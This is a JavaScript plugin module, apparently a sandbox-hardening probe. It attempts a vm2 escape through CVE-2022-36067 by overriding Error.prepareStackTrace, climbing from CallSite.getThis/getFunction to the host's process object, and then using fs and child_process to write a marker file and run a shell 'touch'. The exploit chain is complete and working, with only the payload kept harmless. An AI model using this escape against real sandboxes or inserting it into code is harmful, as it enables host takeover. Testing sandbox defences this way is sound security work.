// Escape attempt: CVE-2022-36067 (Sandbreak, GHSA-mpg4-rc92-vx8v): Error.prepareStackTrace receives CallSites whose getThis/getFunction may be host objects.
// Each attempt hands whatever it reached to pwn(); pwn writes the marker file only if it holds the host process.
function pwn(p, marker, notes, label) {
  try {
    if (!p || (typeof p !== "object" && typeof p !== "function")) { notes.push(label + ": nothing"); return false; }
    const get = typeof p.getBuiltinModule === "function" ? (n) => p.getBuiltinModule(n) : p.mainModule ? (n) => p.mainModule.require(n) : null;
    if (!get) { notes.push(label + ": no process"); return false; }
    get("fs").writeFileSync(marker, "escaped via " + label);
    try { get("child_process").execSync("touch " + marker + ".cp"); } catch (e) {}
    notes.push(label + ": ESCAPED");
    return true;
  } catch (e) { notes.push(label + ": " + String(e && e.message)); return false; }
}
function attempt(notes, label, fn) {
  try { fn(); } catch (e) { notes.push(label + " threw: " + String(e && e.message).slice(0, 80)); }
}

module.exports = {
  name: 'escape-prepare-stack-trace',
  description: 'sandbox escape attempt: prepare-stack-trace',
  risk: 'inspect',
  phrases: [],
  params: { marker: { type: 'string' } },
  applies_to: [],
  async run(ctx, params) {
    const marker = params.marker;
    const notes = [];

    Error.prepareStackTrace = (e, frames) => {
      for (const f of frames) {
        attempt(notes, "getThis", () => { const t = f.getThis(); if (t) pwn(t.constructor.constructor("return process")(), marker, notes, "CallSite.getThis"); });
        attempt(notes, "getFunction", () => { const fn = f.getFunction(); if (fn) pwn(fn.constructor("return process")(), marker, notes, "CallSite.getFunction"); });
      }
      return "x";
    };
    attempt(notes, "local", () => new Error("a").stack);
    attempt(notes, "host error", () => { __send({ toString() { throw new Error("b"); } }); });
    try { await ctx.redis("no-such-service", "PING"); } catch (e) { attempt(notes, "ctx error", () => e.stack); }
    attempt(notes, "stack frames", () => { const frames = []; Error.captureStackTrace(frames); frames.stack; });
    Error.prepareStackTrace = undefined;
    return { summary: notes.join(' | '), data: notes };
  },
};
